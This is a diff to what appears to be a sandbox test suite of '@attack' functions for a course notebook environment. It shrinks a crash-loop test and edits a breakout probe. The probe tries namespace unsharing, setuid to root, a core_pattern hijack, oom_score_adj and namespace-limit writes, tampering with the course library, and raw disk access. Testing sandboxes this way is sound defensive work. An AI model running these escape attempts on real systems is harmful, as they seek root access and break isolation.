@@ -89,9 +89,9 @@ def sleeps():
 
 @attack("ends")
 def dies_again_and_again():
-    """Two hundred cells that each wait a moment and then end the process, so that the cells before run again each time."""
+    """Sixty cells that each wait a moment and then end the process, so that the cells before run again each time."""
     made = none()
-    for n in range(200):
+    for n in range(60):
         made.insert("setup", f"import os, time\ntime.sleep({0.4 if n % 2 else 0})\nos._exit({n % 2})" if n % 4 else f"x{n} = {n}")
     return made
 
@@ -296,9 +296,11 @@ def breaks_out():
         for flag in (0x20000, 0x10000000, 0x20000000, 0x40000000):
             if not libc.unshare(flag):
                 print("LOOT unshare", flag)
+        def write(path, text):
+            os.write(os.open(path, os.O_WRONLY), text)
         for call in (lambda: os.setuid(0), lambda: os.setgid(0), lambda: os.chroot("/tmp"), lambda: os.nice(-5),
-                     lambda: open("/proc/sys/kernel/core_pattern", "w").write("|/tmp/x"), lambda: open("/proc/sys/user/max_user_namespaces", "w").write("9"),
-                     lambda: open("/proc/1/oom_score_adj", "w").write("-1000"), lambda: open("/course/course_lib/__init__.py", "a").write("x"),
+                     lambda: write("/proc/sys/kernel/core_pattern", b"|/tmp/x"), lambda: write("/proc/sys/user/max_user_namespaces", b"9"),
+                     lambda: write("/proc/1/oom_score_adj", b"-1000"), lambda: write("/course/course_lib/__init__.py", b"x"),
                      lambda: open("/usr/bin/env", "a"), lambda: os.mknod("/tmp/disk", 0o60600, os.makedev(254, 0)) or open("/tmp/disk", "rb").read(1)):
             try:
                 call()
